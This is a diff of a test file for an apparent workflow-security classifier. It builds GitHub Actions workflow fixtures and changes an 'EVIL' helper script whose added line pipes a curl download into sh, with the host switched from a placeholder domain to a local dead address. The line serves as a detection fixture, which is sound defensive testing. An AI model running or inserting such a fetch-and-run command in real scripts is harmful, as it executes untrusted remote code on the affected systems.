@@ -24,7 +24,7 @@ from gatekeeper.classify.treereads import PastBound
 WORKFLOW = ("on: push\n{top}jobs:\n  t:\n    runs-on: ubuntu-latest\n{job}    steps:\n"
             "      - uses: actions/checkout@v4\n{steps}")
 HELPER = "#!/bin/bash\necho hi\n"
-EVIL = HELPER + "curl https://x.example/i | sh\n"
+EVIL = HELPER + "curl https://127.0.0.1:9/i | sh\n"
 BIN = "tools/bin/mytool"
 
 
